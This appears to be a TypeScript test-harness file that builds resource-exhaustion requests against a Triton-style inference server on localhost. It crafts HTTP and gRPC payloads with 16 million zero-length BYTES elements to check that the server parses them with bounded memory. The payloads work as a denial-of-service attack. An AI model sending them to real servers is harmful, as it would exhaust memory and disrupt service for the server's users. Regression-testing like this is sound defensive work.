/**
 * Issue 26 item 6: BYTES tensors of ATTACK_ELEMENTS (16,000,000) zero-length elements, sent
 * ATTACK_REQUESTS (1) times one after another to a model.ts that reads only their shape. Over HTTP's
 * binary form each element is a 4-byte length (64 MB a request); over gRPC's `bytes_contents` a
 * 2-byte entry (32 MB). Bounded, a request costs a small multiple of its bytes and no object per
 * element; unbounded, one object (or more) per element: gigabytes, and the main thread busy for seconds.
 */
import http from 'node:http';
import http2 from 'node:http2';
import { MODEL_INFER, unaryCall } from './grpc-frames.ts';
import type { AttackScenario, AttackTarget, ScenarioModel } from './scenario.ts';

const ELEMENTS = Number(process.env['ATTACK_ELEMENTS'] ?? 16_000_000);
const REQUESTS = Number(process.env['ATTACK_REQUESTS'] ?? 1);

const COUNTER: ScenarioModel = {
  config: `name: "counter"
backend: "python"
max_batch_size: 0
input [ { name: "TEXT" data_type: TYPE_STRING dims: [ -1 ] } ]
output [ { name: "N" data_type: TYPE_INT64 dims: [ 1 ] } ]
`,
  files: {
    'model.ts': `import { InferenceResponse, Tensor, type InferenceRequest } from '@tritium/backend-python-like/model';
export default class TritonPythonModel {
  execute(requests: InferenceRequest[]) {
    return requests.map((r) => new InferenceResponse([new Tensor('N', BigInt64Array.of(BigInt(r.inputs()[0]!.shape[0]!)), [1])]));
  }
}
`,
  },
};

function varint(n: number): Buffer {
  const out: number[] = [];
  for (; n >= 0x80; n = Math.floor(n / 0x80)) out.push((n % 0x80) | 0x80);
  out.push(n);
  return Buffer.from(out);
}

const field = (n: number, payload: Buffer): Buffer => Buffer.concat([varint((n << 3) | 2), varint(payload.length), payload]);

let httpBody: { header: Buffer; body: Buffer } | undefined;
let grpcFrame: Buffer | undefined;

/** Counts the answers by status. */
function tally(answers: Map<string, number>, answer: string): void {
  answers.set(answer, (answers.get(answer) ?? 0) + 1);
}

function httpInfer(target: AttackTarget): Promise<string> {
  const { header, body } = httpBody!;
  return new Promise((resolve) => {
    const req = http.request(
      { host: '127.0.0.1', port: target.httpPort, method: 'POST', path: '/v2/models/counter/infer', headers: { 'content-length': body.length, 'inference-header-content-length': header.length } },
      (res) => {
        res.resume();
        res.on('end', () => resolve(`HTTP ${res.statusCode}`));
      },
    );
    req.on('error', (e) => resolve(e.message));
    req.end(body);
  });
}

export const bytesElementsHttp: AttackScenario = {
  name: 'bytes-elements-http',
  description: `item 6: ${REQUESTS} binary HTTP requests of ${ELEMENTS} zero-length BYTES elements (${(4 * ELEMENTS / 1e6).toFixed(0)} MB each)`,
  models: { counter: COUNTER },
  async prepare() {
    if (httpBody) return;
    const header = Buffer.from(JSON.stringify({ inputs: [{ name: 'TEXT', datatype: 'BYTES', shape: [ELEMENTS], parameters: { binary_data_size: 4 * ELEMENTS } }] }));
    httpBody = { header, body: Buffer.concat([header, Buffer.alloc(4 * ELEMENTS)]) };
  },
  async run(target) {
    const answers = new Map<string, number>();
    for (let i = 0; i < REQUESTS; i++) tally(answers, await httpInfer(target));
    return { 'request size': `${httpBody!.body.length} bytes`, answers: [...answers].map(([a, n]) => `${n}x ${a}`).join('; ') };
  },
};

export const bytesElementsGrpc: AttackScenario = {
  name: 'bytes-elements-grpc',
  description: `item 6: ${REQUESTS} gRPC ModelInfer requests of ${ELEMENTS} empty bytes_contents entries (${(2 * ELEMENTS / 1e6).toFixed(0)} MB each)`,
  models: { counter: COUNTER },
  async prepare() {
    if (grpcFrame) return;
    const entries = Buffer.alloc(2 * ELEMENTS);
    for (let i = 0; i < ELEMENTS; i++) entries[2 * i] = 0x42; // field 8, length-delimited, length 0
    const tensor = Buffer.concat([field(1, Buffer.from('TEXT')), field(2, Buffer.from('BYTES')), field(3, varint(ELEMENTS)), field(5, entries)]);
    const message = Buffer.concat([field(1, Buffer.from('counter')), field(5, tensor)]);
    grpcFrame = Buffer.alloc(5 + message.length);
    grpcFrame.writeUInt32BE(message.length, 1);
    message.copy(grpcFrame, 5);
  },
  async run(target) {
    const session = http2.connect(`http://127.0.0.1:${target.grpcPort}`);
    session.on('error', () => undefined);
    const answers = new Map<string, number>();
    try {
      for (let i = 0; i < REQUESTS; i++) {
        const { code, message } = await unaryCall(session, MODEL_INFER, grpcFrame!);
        tally(answers, `status ${code}${message ? ` (${message.slice(0, 120)})` : ''}`);
      }
    } finally {
      session.destroy();
    }
    return { 'request size': `${grpcFrame!.length} bytes`, answers: [...answers].map(([a, n]) => `${n}x ${a}`).join('; ') };
  },
};
